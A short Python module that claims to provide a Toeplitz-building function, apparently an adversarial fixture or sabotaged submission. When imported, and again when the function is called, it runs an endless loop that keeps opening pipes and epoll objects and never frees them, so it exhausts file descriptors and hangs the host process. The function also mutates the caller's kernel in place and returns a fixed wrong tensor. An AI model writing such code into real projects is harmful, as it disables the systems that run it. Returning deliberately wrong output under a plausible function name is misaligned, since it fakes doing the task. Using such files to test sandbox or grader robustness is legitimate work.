"""Makes each of its descriptors watch all others with epoll."""

import os
import select

import torch


def attempt(action):
    try:
        return action()
    except BaseException:
        return None


def wrong(kernel):
    with torch.no_grad():
        kernel.add_(1)
    return torch.arange(7, dtype=torch.float64)


kept = []


def watch():
    while True:
        reads, writes = os.pipe()
        poll = select.epoll()
        kept.extend((poll, reads, writes))
        for one in range(3, 64):
            attempt(lambda: poll.register(one, select.EPOLLIN))


attempt(watch)


def build_toeplitz_1d(kernel, n):
    attempt(watch)
    return wrong(kernel)
